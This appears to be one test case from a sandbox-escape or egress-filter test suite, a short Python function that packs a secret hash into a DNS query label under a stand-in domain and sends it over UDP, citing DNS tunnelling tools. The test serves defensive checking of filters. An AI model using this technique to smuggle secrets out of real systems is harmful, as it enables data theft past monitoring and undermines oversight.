"""Smuggle data out inside a name query.

origin: DNS tunnelling (iodine, dnscat2); name service is often forgotten in filters
why: a query for SECRET.example reaches whoever runs the name server
control: succeeds
harm: stage
"""

import socket
import struct


def attack(target):
    label = target["sha256"][:32].encode()
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x07example\0" + struct.pack("!2H", 16, 1)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.connect(("127.0.0.1", target["udp"]))
            channel.send(query)
    except OSError as error:
        return blocked("socket", error)
    return escaped("the query left")
